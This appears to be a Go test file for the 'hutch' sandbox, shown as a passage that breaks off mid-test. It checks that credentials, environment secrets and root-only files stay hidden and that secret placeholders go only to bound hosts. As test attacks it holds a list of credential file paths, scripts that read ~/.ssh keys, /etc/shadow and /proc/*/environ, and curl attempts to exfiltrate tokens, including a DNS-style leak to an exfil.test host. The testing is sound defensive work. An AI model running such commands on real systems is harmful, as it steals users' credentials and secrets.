//go:build linux

package escape

import (
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"syscall"
	"testing"

	"github.com/hutch-sandbox/hutch/internal/policy"
	"github.com/hutch-sandbox/hutch/internal/testutil"
)

// homeSecrets are credential, key and history files of ESCAPES item 1,
// relative to $HOME.
var homeSecrets = []string{
	".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".config/gh/hosts.yml", ".netrc",
	".docker/config.json", ".kube/config", ".npmrc", ".pypirc", ".git-credentials",
	".gnupg/private-keys-v1.d/key.key", ".bash_history", ".zsh_history", ".env",
}

// plantSecrets writes a fake secret into every homeSecrets file and an
// ordinary notes.txt, all world-readable (files 0644, directories 0755) so
// that only hutch's masking, not file permissions, protects them. It returns
// the path → content of every secret, and notes.txt's content.
func plantSecrets(t *testing.T, home string, uid int) (map[string]string, string) {
	t.Helper()
	secrets := map[string]string{}
	for _, rel := range homeSecrets {
		if dir := filepath.Dir(rel); dir != "." {
			mkdirs(t, home, uid, dir)
		}
		content := randomName("hutch-fake-secret-") + "\n"
		writeFile(t, filepath.Join(home, rel), content, 0o644, uid)
		secrets[rel] = strings.TrimSpace(content)
	}
	notes := randomName("hutch-notes-")
	writeFile(t, filepath.Join(home, "notes.txt"), notes+"\n", 0o644, uid)
	return secrets, notes
}

// noSecret fails the test if any secret value appears in the run's output.
func noSecret(t *testing.T, r result, secrets map[string]string) {
	t.Helper()
	for rel, s := range secrets {
		if strings.Contains(r.stdout, s) || strings.Contains(r.stderr, s) {
			t.Errorf("S3 violated: the content of ~/%s was read inside the sandbox", rel)
		}
	}
}

// TestItem01_CredentialFiles: the credential, key and history files of the
// invoking user's home are unreadable inside the sandbox, even though their
// permissions would allow it, while an ordinary file beside them is
// readable (S3). Reading them by other names (/proc/self/root, "..",
// grep -r) fails too, and the home is unchanged afterwards.
func TestItem01_CredentialFiles(t *testing.T) {
	forEachMode(t, func(t *testing.T, sb *harness) {
		secrets, notes := plantSecrets(t, sb.home, sb.mode.uid)
		before := snapshot(t, sb.home)
		var script strings.Builder
		fmt.Fprintf(&script, "cat \"$HOME/notes.txt\"\n")
		for _, rel := range homeSecrets {
			fmt.Fprintf(&script, "cat \"$HOME/%s\" 2>&1; echo \"RC %s $?\"\n", rel, rel)
		}
		script.WriteString(`
cat "/proc/self/root$HOME/.ssh/id_rsa" 2>&1; echo "RC procroot $?"
cat "$PWD/../../..$HOME/.aws/credentials" 2>&1; echo "RC dotdot $?"
grep -r hutch-fake-secret "$HOME" 2>&1; echo "RC grep $?"
ls -la "$HOME/.ssh" 2>&1; echo "RC ls $?"
`)
		o := opts{}
		if sb.microvm() {
			// The microvm guest sees no home of the host's at all; with
			// the home as its workspace (shared with the guest, read-write)
			// the credentials must be hidden there.
			o.dir = sb.home
		}
		r := sb.run(o, script.String())
		noSecret(t, r, secrets)
		if !strings.Contains(r.stdout, notes) {
			t.Errorf("control failed: ~/notes.txt was not readable inside the sandbox\n%s", r)
		}
		if sb.gvisor() || sb.microvm() {
			// The gVisor tier masks a deny-read path with an empty
			// read-only file or directory, not with an entry that
			// refuses: a read yields nothing or "No such file", and
			// noSecret above is what must hold. So does the microvm
			// tier, on the host's side of the workspace's share, where
			// the guest's root opens the empty file of mode 0.
			for _, rel := range homeSecrets {
				if !strings.Contains(r.stdout, fmt.Sprintf("RC %s ", rel)) {
					t.Errorf("reading ~/%s: no result\n%s", rel, r)
				}
			}
		} else {
			for _, rel := range homeSecrets {
				if !strings.Contains(r.stdout, fmt.Sprintf("RC %s 1", rel)) || !strings.Contains(r.stdout, rel+": Permission denied") {
					t.Errorf("reading ~/%s: want cat to fail with Permission denied\n%s", rel, r)
				}
			}
			for _, what := range []string{"procroot", "dotdot", "ls"} {
				if strings.Contains(r.stdout, "RC "+what+" 0") {
					t.Errorf("%s: reading a masked path succeeded\n%s", what, r)
				}
			}
		}
		sameTree(t, sb.home, before)
	})
}

// TestItem02_Environment: secrets in the caller's environment do not enter
// the sandbox (S3): not the command's environment, not /proc/*/environ or
// /proc/*/cmdline of any process it can see (init included), and
// SSH_AUTH_SOCK is not passed. A variable set with --env and the safe
// variables (HOME, LANG) arrive, so the check can fail.
func TestItem02_Environment(t *testing.T) {
	forEachMode(t, func(t *testing.T, sb *harness) {
		token := randomName("hutch-env-secret-")
		env := []string{
			"GITHUB_TOKEN=" + token, "AWS_SECRET_ACCESS_KEY=" + token, "ANTHROPIC_API_KEY=" + token,
			"OPENAI_API_KEY=" + token, "NPM_TOKEN=" + token, "SSH_AUTH_SOCK=/run/user/1/" + token,
			"HTTPS_PROXY=http://user:" + token + "@proxy.invalid:3128", "DATABASE_URL=postgres://u:" + token + "@db",
		}
		script := `
echo "VISIBLE=$VISIBLE LANG=$LANG"
echo "SSH_AUTH_SOCK=${SSH_AUTH_SOCK:-unset}"
env
cat /proc/self/environ | tr '\0' '\n'
for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do echo "== $f"; cat "$f" 2>&1 | tr '\0' ' '; echo; done
cat /proc/1/environ 2>&1; echo "RC init-environ $?"
echo "INIT-CMDLINE $(tr '\0' ' ' </proc/1/cmdline)"
`
		r := sb.run(opts{env: env, flags: []string{"--env", "VISIBLE=yes"}}, script)
		if strings.Contains(r.stdout, token) || strings.Contains(r.stderr, token) {
			t.Errorf("S3 violated: a secret from the caller's environment is visible inside the sandbox\n%s", r)
		}
		if !strings.Contains(r.stdout, "VISIBLE=yes LANG=C") {
			t.Errorf("control failed: --env VISIBLE=yes or LANG did not reach the sandbox\n%s", r)
		}
		if !strings.Contains(r.stdout, "SSH_AUTH_SOCK=unset") {
			t.Errorf("SSH_AUTH_SOCK was passed into the sandbox\n%s", r)
		}
		switch {
		case sb.gvisor():
			// No hutch process runs inside a gVisor sandbox: PID 1 is the
			// command itself, whose environment (checked above with every
			// other process's) is the scrubbed one.
			if !strings.Contains(r.stdout, "INIT-CMDLINE /bin/sh -c") {
				t.Errorf("under gVisor, PID 1 is not the command\n%s", r)
			}
		case sb.microvm():
			// PID 1 is the guest's init (hutch's agent), which the guest's
			// root may read: its environment is the guest kernel's (the
			// boot's arguments), never the caller's, which the check of
			// every process's environment above holds it to.
			if !strings.Contains(r.stdout, "INIT-CMDLINE /init microvm-init") {
				t.Errorf("under microvm, PID 1 is not hutch's guest init\n%s", r)
			}
		default:
			if !strings.Contains(r.stdout, "RC init-environ 1") || !strings.Contains(r.stdout, "Permission denied") {
				t.Errorf("reading init's /proc/1/environ: want Permission denied\n%s", r)
			}
			if !strings.Contains(r.stdout, "INIT-CMDLINE hutch:init") {
				t.Errorf("init's command line is not the bare marker\n%s", r)
			}
		}
	})
}

// TestItem03_HostRootOnlyFiles: files only host root may read stay
// unreadable even when root starts the sandbox (S1): /etc/shadow (also on
// the default deny list) and a root-owned 0600 file that no deny rule
// covers (--no-default-denies), while a root-owned 0644 file beside it is
// readable. Changing the file's mode or owner fails too.
func TestItem03_HostRootOnlyFiles(t *testing.T) {
	forEachMode(t, func(t *testing.T, sb *harness) {
		if sb.microvm() {
			microVMRootOnlyFiles(t, sb)
			return
		}
		dir := hostDir(t, 0, "rootonly")
		secret := randomName("hutch-root-secret-")
		public := randomName("hutch-public-")
		writeFile(t, filepath.Join(dir, "secret"), secret+"\n", 0o600, 0)
		writeFile(t, filepath.Join(dir, "public"), public+"\n", 0o644, 0)
		before := snapshot(t, dir)
		script := fmt.Sprintf(`
cat %[1]s/public
cat %[1]s/secret 2>&1; echo "RC secret $?"
chmod 0644 %[1]s/secret 2>&1; echo "RC chmod $?"
chown 0:0 %[1]s/secret 2>&1; echo "RC chown $?"
cat /etc/shadow 2>&1; echo "RC shadow $?"
`, dir)
		for _, flags := range [][]string{nil, {"--no-default-denies"}} {
			r := sb.run(opts{flags: flags}, script)
			if strings.Contains(r.stdout, secret) {
				t.Errorf("S1 violated (flags %q): a root-only 0600 file was read\n%s", flags, r)
			}
			if !strings.Contains(r.stdout, public) {
				t.Errorf("control failed (flags %q): the root-owned 0644 file was not readable\n%s", flags, r)
			}
			for _, want := range []string{"RC secret 1", "secret: Permission denied", "RC shadow 1", "/etc/shadow: Permission denied"} {
				if !strings.Contains(r.stdout, want) {
					t.Errorf("flags %q: want %q in the output\n%s", flags, want, r)
				}
			}
			for _, bad := range []string{"RC chmod 0", "RC chown 0"} {
				if strings.Contains(r.stdout, bad) {
					t.Errorf("flags %q: %s: changing a host root file succeeded\n%s", flags, bad, r)
				}
			}
			if strings.Contains(r.stdout, "root:") && strings.Contains(r.stdout, "RC shadow 0") {
				t.Errorf("flags %q: /etc/shadow was read\n%s", flags, r)
			}
		}
		sameTree(t, dir, before)
	})
}

// microVMRootOnlyFiles is TestItem03_HostRootOnlyFiles under the microvm
// tier, whose guest sees of the host's root only its system directories
// (/usr, /etc…, read through virtiofsd, root on the host): the host's
// own root-only files of /etc that the deny list does not name (on
// Debian /etc/shadow-, /etc/gshadow-, /etc/security/opasswd) cannot be
// read or changed by the guest's root (the workspace's owner is root
// here), without the default denies; a file of /etc every user may read
// can (the control).
func microVMRootOnlyFiles(t *testing.T, sb *harness) {
	var files []string
	denied := policy.DefaultDenyRead("")
	filepath.WalkDir("/etc", func(p string, d fs.DirEntry, err error) error {
		switch {
		case len(files) >= 8:
			return filepath.SkipAll
		case err != nil:
			return nil // not examined: not attacked
		}
		if slices.ContainsFunc(denied, func(x string) bool { return p == x || strings.HasPrefix(p, x+"/") }) {
			if d.IsDir() {
				return filepath.SkipDir
			}
			return nil
		}
		fi, err := d.Info()
		if err != nil || !fi.Mode().IsRegular() || fi.Mode().Perm()&0o004 != 0 || fi.Sys().(*syscall.Stat_t).Uid != 0 {
			return nil
		}
		files = append(files, p)
		return nil
	})
	testutil.Need(t, len(files) > 0, "no root-only file in /etc outside the deny list to attack")
	var script strings.Builder
	script.WriteString("cat /etc/hostname >/dev/null; echo \"RC public $?\"\n")
	for i, f := range files {
		fmt.Fprintf(&script, "cat %[1]s 2>&1 >/dev/null; echo \"RC read%[2]d $?\"\nchmod 0644 %[1]s 2>/dev/null; echo \"RC chmod%[2]d $?\"\n", shellWords(f), i)
	}
	// One guest, without the default denies: the tier hides the default
	// deny list's system paths whatever the policy says, and the files
	// attacked are not on it.
	flags := []string{"--no-default-denies"}
	r := sb.run(opts{flags: flags}, script.String())
	if !strings.Contains(r.stdout, "RC public 0") {
		t.Errorf("control failed (flags %q): /etc/hostname was not readable\n%s", flags, r)
	}
	for i, f := range files {
		if !strings.Contains(r.stdout, fmt.Sprintf("RC read%d 1", i)) || !strings.Contains(r.stdout, f+": Permission denied") {
			t.Errorf("S1 violated (flags %q): the host's root-only %s was read in the guest, want Permission denied\n%s", flags, f, r)
		}
		if strings.Contains(r.stdout, fmt.Sprintf("RC chmod%d 0", i)) {
			t.Errorf("flags %q: the host's %s changed its mode\n%s", flags, f, r)
		}
	}
}

// Credential placeholders (ESCAPES 2 and 19, S3). A secret given with
// --secret NAME@HOST or in a policy file's secrets: is in the sandbox only
// as a placeholder; the proxy puts the real value in on requests to the
// secret's hosts and nowhere else. The tests below use long random real
// values, upstreams on the host's loopback that record everything they
// receive and echo it back, and names pinned with --add-host.

// realValue returns a fresh, long random value that no other part of the
// suite uses: tag and 48 hex digits.
func realValue(tag string) string {
	var b [24]byte
	if _, err := rand.Read(b[:]); err != nil {
		panic(err)
	}
	return tag + hex.EncodeToString(b[:])
}

// hidden returns a grep pattern (basic regular expression) that matches
// exactly s, a value of realValue, without containing s: hutch refuses a
// command whose arguments hold a real value, and the script, which every
// /proc/PID/cmdline dump shows, must not put the value there itself.
func hidden(s string) string {
	return s[:1] + "[" + s[1:2] + "]" + s[2:]
}

// placeholders reads the "PH NAME=VALUE" lines a script printed.
func placeholders(out string) map[string]string {
	m := map[string]string{}
	for _, line := range strings.Split(out, "\n") {
		if rest, ok := strings.CutPrefix(line, "PH "); ok {
			if k, v, ok := strings.Cut(rest, "="); ok {
				m[k] = v
			}
		}
	}
	return m
}

// checkPlaceholder fails the test unless the sandbox got a placeholder
// for the secret name: not empty, not the real value, as long as it, with
// prefix. It returns the placeholder.
func checkPlaceholder(t *testing.T, r result, name, real, prefix string) string {
	t.Helper()
	ph := placeholders(r.stdout)[name]
	switch {
	case ph == "":
		t.Errorf("$%s is empty in the sandbox: want a placeholder\n%s", name, r)
	case ph == real:
		t.Errorf("S3 violated: $%s holds the real value in the sandbox", name)
	case len(ph) != len(real) || !strings.HasPrefix(ph, prefix):
		t.Errorf("$%s = %q: want a placeholder as long as the real value (%d bytes) starting with %q", name, ph, len(real), prefix)
	}
	return ph
}

// noReal fails the test if any real value is in text (named what).
func noReal(t *testing.T, what, text string, reals map[string]string) {
	t.Helper()
	for _, name := range sortedKeys(reals) {
		if strings.Contains(text, reals[name]) {
			t.Errorf("S3 violated: the real value of %s is in %s", name, what)
		}
	}
}

// blockedSecret checks that the report holds a refusal of protocol at
// host:port that names secret and whose reason contains reason.
func blockedSecret(t *testing.T, evs []event, protocol, host string, port int, secret, reason string) {
	t.Helper()
	if !slices.ContainsFunc(evs, func(e event) bool {
		return e.Action == "blocked" && e.Protocol == protocol && e.Host == host && e.Port == port &&
			e.Secret == secret && strings.Contains(e.Reason, reason)
	}) {
		t.Errorf("report: no blocked %s event for %s:%d naming secret %s with reason %q\n%s", protocol, host, port, secret, reason, reportText(evs))
	}
}

// receivedOnly fails unless upstream u received exactly the paths (in any
// order, each once or more) and nothing else. A request that hutch
// refused to the sandbox must not arrive at all, not even its head with
// a body cut short.
func receivedOnly(t *testing.T, what string, u *recorder, paths ...string) {
	t.Helper()
	got := map[string]bool{}
	for _, r := range u.received() {
		_, p, _ := strings.Cut(r, " ")
		got[p] = true
	}
	for _, p := range paths {
		if !got[p] {
			t.Errorf("control failed: the %s upstream did not receive %s (got %q)", what, p, u.received())
		}
		delete(got, p)
	}
	for _, p := range sortedKeys(got) {
		for _, x := range u.requests(p) {
			t.Errorf("the %s upstream received %s %s (header, and %d of %s body bytes, the body ending with %v), which hutch refused to the sandbox: want nothing to arrive",
				what, x.method, p, len(x.body), x.header.Get("Content-Length"), x.bodyErr)
		}
	}
}

// oneRequest returns the only request u received for path, failing the
// test when there is not exactly one.
func oneRequest(t *testing.T, what string, u *recorder, path string) exchange {
	t.Helper()
	xs := u.requests(path)
	if len(xs) != 1 {
		t.Errorf("the %s upstream received %d requests for %s, want 1\n%s", what, len(xs), path, u.dump())
		return exchange{header: http.Header{}}
	}
	return xs[0]
}

// secretEnv is a sandbox with secrets and the upstreams they are for,
// all on the host's loopback: bound.test over HTTPS (two secrets bound)
// and plain HTTP (one port whose secret allows plain HTTP, one whose
// secret does not), other.test over HTTPS (another secret's host), and
// free.test over plain HTTP and HTTPS with no secret, allowed with
// --allow-domain. The HTTPS upstreams of bound.test and other.test have
// certificates of a test CA that hutch trusts with --upstream-ca; that of
// free.test has a certificate of a second CA that only the sandbox's curl
// is given.
type secretEnv struct {
	tlsA, httpA, httpP, tlsB, httpF, tlsF *recorder
	ca, freeCA                            string // the CAs' file names in the workspace
	freeTag                               string // the organization of free.test's certificate
	rep                                   string // the report file
	reals                                 map[string]string
}

func newSecretEnv(t *testing.T, sb *harness) *secretEnv {
	t.Helper()
	e := &secretEnv{ca: "upstream-ca.pem", freeCA: "free-ca.pem", freeTag: randomName("hutch-free-")}
	e.reals = map[string]string{
		"TOKA": realValue("ra-"), "TOKQ": realValue("rq-"), "TOKB": realValue("rb-"), "TOKP": realValue("rp-"),
	}
	cfg := testCA(t, filepath.Join(sb.ws, e.ca), sb.mode.uid, randomName("hutch-bound-"), "bound.test", "other.test")
	freeCfg := testCA(t, filepath.Join(sb.ws, e.freeCA), sb.mode.uid, e.freeTag, "free.test")
	// Each bound upstream sends its secrets' real values back unasked.
	e.tlsA = startRecorder(t, "127.0.0.1:0", cfg, e.reals["TOKA"]+" "+e.reals["TOKQ"])
	e.httpA = startRecorder(t, "127.0.0.1:0", nil, e.reals["TOKA"])
	e.httpP = startRecorder(t, "127.0.0.1:0", nil, e.reals["TOKP"])
	e.tlsB = startRecorder(t, "127.0.0.1:0", cfg, e.reals["TOKB"])
	e.httpF = startRecorder(t, "127.0.0.1:0", nil, "")
	e.tlsF = startRecorder(t, "127.0.0.1:0", freeCfg, "")
	e.rep = filepath.Join(hostDir(t, sb.mode.uid, "report"), "report.jsonl")
	return e
}

// policy writes the policy file of the secrets: TOKA (prefix ghp_) bound
// to bound.test over HTTPS and one plain HTTP port, headers only; TOKQ
// bound to bound.test over HTTPS, also in the query and the body; TOKB
// bound to other.test; TOKP bound to bound.test's other plain HTTP port,
// with allow_plain_http. The real values come from hutch's variables
// REAL_*.
func (e *secretEnv) policy(t *testing.T, sb *harness) string {
	t.Helper()
	pol := fmt.Sprintf(`secrets:
  - name: TOKA
    hosts: [bound.test:%s, bound.test:%s]
    from: env:REAL_A
    placeholder_prefix: ghp_
  - name: TOKQ
    hosts: [bound.test:%s]
    from: env:REAL_Q
    in_query: true
    in_body: true
  - name: TOKB
    hosts: [other.test:%s]
    from: env:REAL_B
  - name: TOKP
    hosts: [bound.test:%s]
    from: env:REAL_P
    allow_plain_http: true
`, e.tlsA.port, e.httpA.port, e.tlsA.port, e.tlsB.port, e.httpP.port)
	path := filepath.Join(hostDir(t, sb.mode.uid, "policy"), "policy.yaml")
	writeFile(t, path, pol, 0o644, sb.mode.uid)
	return path
}

// env is hutch's environment: the real values.
func (e *secretEnv) env() []string {
	return []string{
		"REAL_A=" + e.reals["TOKA"], "REAL_Q=" + e.reals["TOKQ"],
		"REAL_B=" + e.reals["TOKB"], "REAL_P=" + e.reals["TOKP"],
	}
}

// flags pins the names to the host's loopback and allows free.test's two
// ports; the secrets' hosts are allowed by the secrets alone, and the
// network mode follows from them.
func (e *secretEnv) flags(pol string) []string {
	return []string{
		"--policy", pol, "--report", e.rep, "--upstream-ca", e.ca,
		"--add-host", "bound.test:127.0.0.1", "--add-host", "other.test:127.0.0.1", "--add-host", "free.test:127.0.0.1",
		"--allow-private", "127.0.0.1/32",
		"--allow-domain", "free.test:" + e.httpF.port, "--allow-domain", "free.test:" + e.tlsF.port,
	}
}

// headerLine is the line "name: value" as out holds it: with the name
// as given (HTTP/1.1) or in lower case (HTTP/2, which curl negotiates
// with the sandbox's proxy when it supports it).
func headerLine(name, value, out string) string {
	if lower := strings.ToLower(name) + ": " + value; strings.Contains(out, lower) {
		return lower
	}
	return name + ": " + value
}

// dumpFn prints every file the curl runs left (headers, bodies, curl's
// messages), so that the test sees all the sandbox received.
const dumpFn = `
dump() { for f in /tmp/h.* /tmp/b.* /tmp/e.*; do echo "== $f"; cat "$f"; echo; done; }
`

// TestItem19_Placeholders: the proxy puts a secret's real value in only
// where the policy allows, and the sandbox never sees it (S3).
//
// To the bound host over HTTPS (intercepted with the sandbox's CA, which
// curl and git trust without options): the upstream receives the real
// value in a Bearer header, in Basic authorization from curl -u, from
// user:password in the URL and from git; TOKA's placeholder stays a
// placeholder in the query and the body (no in_query, in_body) while
// TOKQ's is replaced there (the controls); SOCKS5 is intercepted like
// CONNECT. Every response echoes the real values (header and body) and
// arrives in the sandbox with the placeholders instead.
//
// The attacks, each refused with 403, the reason in X-Hutch-Blocked, a
// report event naming the secret, and nothing received upstream: TOKA's
// placeholder to free.test (allowed, no secret) over plain HTTP in a
// header, Basic authorization, the query (as is and percent-escaped) and
// the body (at its start, and after 100 kB); TOKA's placeholder to
// other.test, TOKB's host, in a header, Basic authorization and the body
// (twice), over CONNECT and SOCKS5; TOKB's placeholder to bound.test;
// TOKA's placeholder over plain http:// to bound.test (no
// allow_plain_http), while TOKP's, which allows it, goes through; a
// placeholder as a host name (DNS-style exfiltration); TOKA in a tunnel
// to bound.test whose Host header names other.test. The controls: the
// same hosts without placeholders answer. No placeholder ever reaches a
// host it is not bound to.
//
// free.test's HTTPS is not intercepted: the sandbox sees the upstream's
// certificate (curl verifies it with the upstream's CA, and the issuer is
// that CA), the bundle with hutch's CA does not verify it, and the
// upstream receives the placeholder, never the real value, unreported (the
// proxy cannot read the tunnel; the README says so). Conversely,
// the upstream's CA does not verify what the sandbox sees of bound.test.
func TestItem19_Placeholders(t *testing.T) {
	forEachMode(t, func(t *testing.T, sb *harness) {
		e := newSecretEnv(t, sb)
		pol := e.policy(t, sb)
		a := "https://bound.test:" + e.tlsA.port
		b := "https://other.test:" + e.tlsB.port
		f := "http://free.test:" + e.httpF.port
		socks := "--proxy socks5h://" + socksProxy
		script := curlFn + dumpFn + `
for v in TOKA TOKQ TOKB TOKP; do eval "echo \"PH $v=\$$v\""; done
for v in SSL_CERT_FILE CURL_CA_BUNDLE REQUESTS_CA_BUNDLE NODE_EXTRA_CA_CERTS GIT_SSL_CAINFO; do eval "echo \"CAVAR $v=\$$v\""; done
try bearer -v -H "Authorization: Bearer $TOKA" ` + a + `/bearer
try basic_u -u "x-access-token:$TOKA" ` + a + `/basic-u
try basic_url "https://x-access-token:$TOKA@bound.test:` + e.tlsA.port + `/basic-url"
try query_a "` + a + `/query-a?access_token=$TOKA"
try body_a --data-binary "token=$TOKA" ` + a + `/body-a
try query_q "` + a + `/query-q?access_token=$TOKQ"
try body_q --data-binary "token=$TOKQ" ` + a + `/body-q
try socks_a ` + socks + ` -H "Authorization: Bearer $TOKA" ` + a + `/socks-a
GIT_TERMINAL_PROMPT=0 git ls-remote "https://x-access-token:$TOKA@bound.test:` + e.tlsA.port + `/git/repo.git" >/tmp/b.git 2>/tmp/e.git; echo "RC git $?"
try upstream_ca --cacert ` + e.ca + ` ` + a + `/upstream-ca

try free_ctl ` + f + `/free-ctl
try a_free -H "Authorization: Bearer $TOKA" ` + f + `/a-free
try a_free_query "` + f + `/a-free-query?t=$TOKA"
try a_free_body --data-binary "t=$TOKA" ` + f + `/a-free-body
try a_free_enc "` + f + `/a-free-enc?t=%67${TOKA#g}"
try a_free_basic -u "x-access-token:$TOKA" ` + f + `/a-free-basic
head -c 100000 /dev/zero | tr '\0' x >/tmp/late; printf '%s' "$TOKA" >>/tmp/late
try a_free_body_late --data-binary @/tmp/late ` + f + `/a-free-body-late
try b_ctl -H "Authorization: Bearer $TOKB" ` + b + `/b-ctl
try a_b -H "Authorization: Bearer $TOKA" ` + b + `/a-b
try a_b_basic -u "x-access-token:$TOKA" ` + b + `/a-b-basic
try a_b_body --data-binary "t=$TOKA" ` + b + `/a-b-body
try a_b_body_late --data-binary @/tmp/late ` + b + `/a-b-body-late
try a_b_socks ` + socks + ` -H "Authorization: Bearer $TOKA" ` + b + `/a-b-socks
try a_hostswap -H "Host: other.test:` + e.tlsB.port + `" -H "Authorization: Bearer $TOKA" ` + a + `/a-hostswap
try b_a -H "Authorization: Bearer $TOKB" ` + a + `/b-a
try plain_ctl http://bound.test:` + e.httpA.port + `/plain-ctl
try plain_a -H "Authorization: Bearer $TOKA" http://bound.test:` + e.httpA.port + `/plain-a
try plain_p -H "Authorization: Bearer $TOKP" http://bound.test:` + e.httpP.port + `/plain-p
try name_q "https://$TOKQ.exfil.test/"

try free_tls_default -v -H "Authorization: Bearer $TOKA" https://free.test:` + e.tlsF.port + `/free-default
try free_tls -v --cacert ` + e.freeCA + ` -H "Authorization: Bearer $TOKA" https://free.test:` + e.tlsF.port + `/free-tunnel
for n in bearer free_tls free_tls_default; do grep -i '^\*  *issuer:' /tmp/e.$n | sed "s/^/ISSUER $n /"; done
dump
`
		r := sb.run(opts{env: e.env(), flags: e.flags(pol)}, script)
		noReal(t, "the sandbox's output (stdout, stderr)", r.stdout+r.stderr, e.reals)
		ph := map[string]string{}
		for name, prefix := range map[string]string{"TOKA": "ghp_", "TOKQ": "", "TOKB": "", "TOKP": ""} {
			ph[name] = checkPlaceholder(t, r, name, e.reals[name], prefix)
		}
		for _, v := range []string{"SSL_CERT_FILE", "CURL_CA_BUNDLE", "REQUESTS_CA_BUNDLE", "NODE_EXTRA_CA_CERTS", "GIT_SSL_CAINFO"} {
			if !regexp.MustCompile(`(?m)^CAVAR ` + v + `=/\S+$`).MatchString(r.stdout) {
				t.Errorf("$%s does not point at the sandbox's trust bundle\n%s", v, r)
			}
		}

		c := curls(r.stdout)
		ok := map[string]string{"rc": "0", "code": "200/200"}
		for _, n := range []string{"bearer", "basic_u", "basic_url", "query_a", "body_a", "query_q", "body_q", "b_ctl", "free_tls"} {
			expectCurl(t, r, c, n, ok)
		}
		for _, n := range []string{"socks_a", "free_ctl", "plain_ctl", "plain_p"} {
			expectCurl(t, r, c, n, map[string]string{"rc": "0", "code": "200/000"})
		}
		notBound := func(name, host, port string) string {
			return "secret_" + name + "_is_not_bound_to_" + host + ":" + port
		}
		for _, n := range []string{"a_free", "a_free_query", "a_free_enc", "a_free_basic", "a_free_body", "a_free_body_late"} {
			expectCurl(t, r, c, n, map[string]string{"code": "403/000", "blocked": notBound("TOKA", "free.test", e.httpF.port)})
		}
		for _, n := range []string{"a_b", "a_b_basic", "a_b_body", "a_b_body_late"} {
			expectCurl(t, r, c, n, map[string]string{"code": "403/200", "blocked": notBound("TOKA", "other.test", e.tlsB.port)})
		}
		expectCurl(t, r, c, "a_b_socks", map[string]string{"code": "403/000", "blocked": notBound("TOKA", "other.test", e.tlsB.port)})
		expectCurl(t, r, c, "a_hostswap", map[string]string{"code": "403/200", "blocked": "Host_header_other.test:" + e.tlsB.port + "_differs_from_CONNECT_target_bound.test:" + e.tlsA.port})
		expectCurl(t, r, c, "b_a", map[string]string{"code": "403/200", "blocked": notBound("TOKB", "bound.test", e.tlsA.port)})
		expectCurl(t, r, c, "plain_a", map[string]string{"code": "403/000", "blocked": "secret_TOKA_is_sent_only_over_https_(allow_plain_http_is_off)"})
		expectCurl(t, r, c, "name_q", map[string]string{"rc": "!0", "code": "000/403"})
		// curl error 60: the certificate did not verify.
		expectCurl(t, r, c, "upstream_ca", map[string]string{"rc": "60"})
		expectCurl(t, r, c, "free_tls_default", map[string]string{"rc": "60"})

		// What the sandbox saw: placeholders where the upstreams echoed
		// and leaked real values.
		for _, want := range []string{
			"echo auth=Bearer " + ph["TOKA"], "echo auth=basic x-access-token:" + ph["TOKA"],
			"echo query=access_token=" + ph["TOKQ"], "echo body=token=" + ph["TOKQ"],
			"echo query=access_token=" + ph["TOKA"], "echo body=token=" + ph["TOKA"],
			"echo leak=" + ph["TOKA"] + " " + ph["TOKQ"], headerLine("X-Leak", ph["TOKA"]+" "+ph["TOKQ"], r.stdout),
			"echo auth=Bearer " + ph["TOKB"], "echo leak=" + ph["TOKB"],
			"echo auth=Bearer " + ph["TOKP"], "echo leak=" + ph["TOKP"],
			"ISSUER bearer *  issuer: CN=hutch sandbox CA",
			"ISSUER free_tls *  issuer: CN=hutch escape test CA " + e.freeTag,
		} {
			if !strings.Contains(r.stdout, want) {
				t.Errorf("the sandbox did not see %q\n%s", want, r)
			}
		}
		if strings.Contains(r.stdout, "ISSUER free_tls *  issuer: CN=hutch sandbox CA") {
			t.Errorf("free.test, which no secret is bound to, was intercepted\n%s", r)
		}

		// What the upstreams received.
		all := e.tlsA.dump() + e.httpA.dump() + e.httpP.dump() + e.tlsB.dump() + e.httpF.dump() + e.tlsF.dump()
		hdr := func(x exchange) string { return x.header.Get("Authorization") }
		if x := oneRequest(t, "bound.test HTTPS", e.tlsA, "/bearer"); hdr(x) != "Bearer "+e.reals["TOKA"] {
			t.Errorf("bound.test received Authorization %q for /bearer, want the real value of TOKA in a Bearer header", hdr(x))
		}
		for _, p := range []string{"/basic-u", "/basic-url"} {
			if x := oneRequest(t, "bound.test HTTPS", e.tlsA, p); x.basic != "x-access-token:"+e.reals["TOKA"] {
				t.Errorf("bound.test received Basic credentials %q for %s, want x-access-token and the real value of TOKA", x.basic, p)
			}
		}
		if x := oneRequest(t, "bound.test HTTPS", e.tlsA, "/socks-a"); hdr(x) != "Bearer "+e.reals["TOKA"] {
			t.Errorf("bound.test received Authorization %q over SOCKS5, want the real value of TOKA", hdr(x))
		}
		if !slices.ContainsFunc(e.tlsA.requests("/git/repo.git/info/refs"), func(x exchange) bool {
			return x.basic == "x-access-token:"+e.reals["TOKA"]
		}) {
			t.Errorf("git: bound.test did not receive the real value of TOKA in Basic authorization\n%s\n%s", e.tlsA.dump(), r)
		}
		if x := oneRequest(t, "bound.test HTTPS", e.tlsA, "/query-a"); x.query != "access_token="+ph["TOKA"] {
			t.Errorf("bound.test received the query %q: TOKA has no in_query, want its placeholder as sent", x.query)
		}
		if x := oneRequest(t, "bound.test HTTPS", e.tlsA, "/body-a"); x.body != "token="+ph["TOKA"] {
			t.Errorf("bound.test received the body %q: TOKA has no in_body, want its placeholder as sent", x.body)
		}
		if x := oneRequest(t, "bound.test HTTPS", e.tlsA, "/query-q"); x.query != "access_token="+e.reals["TOKQ"] {
			t.Errorf("bound.test received the query %q: TOKQ has in_query, want its real value", x.query)
		}
		if x := oneRequest(t, "bound.test HTTPS", e.tlsA, "/body-q"); x.body != "token="+e.reals["TOKQ"] {
			t.Errorf("bound.test received the body %q: TOKQ has in_body, want its real value", x.body)
		}
		if x := oneRequest(t, "other.test", e.tlsB, "/b-ctl"); hdr(x) != "Bearer "+e.reals["TOKB"] {
			t.Errorf("other.test received Authorization %q, want the real value of TOKB", hdr(x))
		}
		if x := oneRequest(t, "bound.test plain HTTP (allow_plain_http)", e.httpP, "/plain-p"); hdr(x) != "Bearer "+e.reals["TOKP"] {
			t.Errorf("bound.test received Authorization %q over plain HTTP, want the real value of TOKP (allow_plain_http)", hdr(x))
		}
		if x := oneRequest(t, "free.test HTTPS", e.tlsF, "/free-tunnel"); hdr(x) != "Bearer "+ph["TOKA"] {
